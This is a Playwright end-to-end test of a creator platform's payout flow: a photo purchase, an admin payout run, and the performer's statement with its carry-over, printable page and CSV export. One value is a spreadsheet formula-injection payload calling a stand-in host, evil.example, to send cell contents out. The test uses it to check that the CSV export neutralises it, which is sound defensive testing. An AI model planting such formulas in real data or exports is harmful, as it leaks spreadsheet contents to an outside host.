/**
 * Payouts as people see them: a user buys one of Giulia's photos, an admin runs payouts now in the
 * console's 'Pagamenti' tab, and Giulia's dashboard shows the week's statement with her 55% and,
 * below the 50 € minimum, the amount carried over to the next week; the statement opens as a
 * printable page, and downloads as a CSV where a name she chose that a spreadsheet would read as a
 * formula is neutralised. At phone width the tab still reads.
 */
import { buffer } from 'node:stream/consumers';
import type { Browser } from 'playwright-core';
import { streams } from '@aura/contracts';
import { client, type TestApp } from '../../backend/test/app-harness';
import { newId } from '../../backend/platform/ids';
import { describeWithChromium, launchChromium, startBrowserApp } from './chromium';
import { adminConsole, performerDashboard } from './steps';

const ADMIN_PASSWORD = 'admin-e2e-password';

describeWithChromium('payouts in the browser', () => {
  let app: TestApp;
  let browser: Browser;
  beforeAll(async () => {
    // no reserve, so a sale of a minute ago is payable now (the reserve has its own specs)
    app = await startBrowserApp({ PAYOUT_RESERVE_DAYS: '0', PAYOUT_MINIMUM_EUR: '50' }, { serveFrontend: true });
    await app.ensureSuperadmin({ username: 'admin', password: ADMIN_PASSWORD });
    await app.seedDemo();
    await app.settled();
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    await app?.close();
  });

  it('a photo sale, an admin run, her statement with the carry-over below the minimum', async () => {
    // 1. a user buys Giulia's 12,5-auracoin photo: her 55% is 6,87 €
    const buyer = client(app.url);
    const registered = await buyer.post('/api/register', {
      username: `fan${Date.now().toString(36)}`,
      email: `fan${Date.now().toString(36)}@example.com`,
      password: 'secret-pass',
      sensitiveDataConsent: true,
    });
    const buyerId = registered.json.id as string;
    await app.infra.eventStore.appendToStream(
      streams.wallet(buyerId),
      [
        {
          id: newId(),
          type: 'AuracoinCredited',
          data: { walletId: buyerId, amount: 5_000, reason: 'refund', creditedAt: new Date().toISOString() },
        },
      ],
      { expectedRevision: 'any' },
    );
    const giulia = client(app.url);
    const giuliaId = (
      await giulia.post('/api/performer/login', { username: 'giulia.rossi', password: 'demo-performer' })
    ).json.id as string;
    await app.settled();
    const photos = (await buyer.get(`/api/performers/${giuliaId}/photos`)).json as unknown as {
      id: string;
      price: number;
    }[];
    const photo = photos.find((p) => p.price === 12.5)!;
    expect(
      (await buyer.post(`/api/photos/${photo.id}/purchase`, undefined, { 'idempotency-key': 'e2e-payout' })).status,
    ).toBe(201);
    await app.settled();
    await app.settled();
    const soldBy = Date.now();

    // 2. an admin runs payouts up to now from the console
    const { context: adminContext, page: admin } = await adminConsole(browser, app.url, {
      username: 'admin',
      password: ADMIN_PASSWORD,
    });
    await admin.getByRole('tab', { name: 'Pagamenti' }).click();
    await admin.getByTestId('admin-payouts-test-mode').waitFor();
    // the run's period ends at a whole second (the form's precision) after the sale's: wait until one is past,
    // usually already the case by the time the admin is signed in
    await admin.waitForFunction((sale) => Math.floor(Date.now() / 1000) * 1000 > sale, soldBy, {
      timeout: 5_000,
      polling: 100,
    });
    // the day as gg/mm/aaaa and the time as hh:mm:ss, the browser's local time (Italian formats whatever its language)
    const now = await admin.evaluate(() => {
      const d = new Date();
      const pad = (n: number) => String(n).padStart(2, '0');
      return {
        day: `${pad(d.getDate())}/${pad(d.getMonth() + 1)}/${d.getFullYear()}`,
        time: `${pad(d.getHours())}:${pad(d.getMinutes())}:${pad(d.getSeconds())}`,
      };
    });
    await admin.getByLabel('Fine del periodo (facoltativa)').fill(now.day);
    await admin.getByLabel('Ora (hh:mm)').fill(now.time);
    await admin.getByRole('button', { name: 'Esegui ora' }).click();
    await admin.getByText('Pagamenti avviati').first().waitFor();
    const row = admin.getByTestId('payout-run-row').first();
    await row.getByText('Completata').waitFor({ timeout: 15_000 });
    await row.getByRole('button', { name: 'Dettagli' }).click();
    await admin.getByTestId('admin-carry-row').filter({ hasText: 'Giulia: 6,87 € · Sotto il minimo' }).waitFor();
    await adminContext.close();

    // her verified name is now a formula (only staff can rename her), which her statement's CSV must not run
    const formulaName = '=HYPERLINK("http://evil.example/?"&A1;"Giulia")';
    expect((await giulia.send('PATCH', `/api/performers/${giuliaId}`, { name: formulaName })).status).toBe(403);
    const staff = client(app.url);
    expect((await staff.post('/api/admin/verify', { username: 'admin', password: ADMIN_PASSWORD })).status).toBe(200);
    expect((await staff.send('PATCH', `/api/performers/${giuliaId}`, { name: formulaName })).status).toBe(200);
    await app.settled();

    // 3. Giulia's dashboard: her statement, carried over below the minimum
    const { context, page } = await performerDashboard(browser, app.url);
    await page.getByRole('tab', { name: 'Pagamenti' }).click();
    await page.getByTestId('payouts-test-mode').waitFor();
    await page.getByTestId('unpaid-balance').filter({ hasText: '6,87 €' }).waitFor();
    await page.getByTestId('payout-minimum').filter({ hasText: '50,00 €' }).waitFor();
    await page
      .getByTestId('next-payout-date')
      .filter({ hasText: /^martedì \d+ \w+ \d{4}$/ })
      .waitFor();
    const statement = page.getByTestId('statement-row').first();
    await statement
      .getByTestId('statement-status')
      .filter({ hasText: 'Riportato alla settimana successiva' })
      .waitFor();
    await statement
      .getByTestId('statement-carry')
      .filter({ hasText: '6,87 € riportati: sotto il minimo di pagamento' })
      .waitFor();
    // amounts are printed the Italian way, with a no-break space before the euro sign
    expect((await statement.textContent())?.replace(/\u00a0/g, ' ')).toContain('6,87 €');

    // the statement opens as a printable page and downloads as CSV
    await statement.getByRole('link', { name: /^Apri l'estratto conto/ }).click();
    await page.getByTestId('statement-page').waitFor();
    await page.getByTestId('statement-page-share').filter({ hasText: '6,87 €' }).waitFor();
    // he paid with purchased auracoin: all of the 12,5 earns her share, none of it was promotional
    await page
      .getByTestId('statement-page-purchased')
      .filter({ hasText: /^12,5$/ })
      .waitFor();
    await page.getByTestId('statement-page-promotional').filter({ hasText: /^0$/ }).waitFor();
    await page
      .getByTestId('statement-page-carry')
      .filter({ hasText: '6,87 € riportati alla settimana successiva: sotto il minimo di pagamento.' })
      .waitFor();
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Scarica CSV' }).click();
    const file = await download;
    expect(file.suggestedFilename()).toMatch(/^estratto-conto-\d{4}-\d{2}-\d{2}\.csv$/);
    // read through the connection: the tier's shared Chromium keeps its downloads on its side (no local path)
    const csv = (await buffer(await file.createReadStream())).toString('utf8').replace('\uFEFF', '').split('\r\n');
    expect(csv[0]).toBe(`Estratto conto settimanale;"'${formulaName.replace(/"/g, '""')}"`);
    expect(csv[3]).toBe(
      'Data e ora;Fonte;Importo pagato (auracoin);di cui acquistati (auracoin);di cui promozionali (auracoin);Quota performer 55% (€)',
    );
    expect(csv).toContain('Totale foto;1;12,5;12,5;0;6,87');

    // at phone width the tab still reads, with nothing wider than the screen
    await page.setViewportSize({ width: 390, height: 844 });
    await page.goto(`${app.url}/performer/dashboard`);
    await page.getByRole('tab', { name: 'Pagamenti' }).click();
    await page.getByTestId('unpaid-balance').waitFor();
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    await context.close();
  });
});
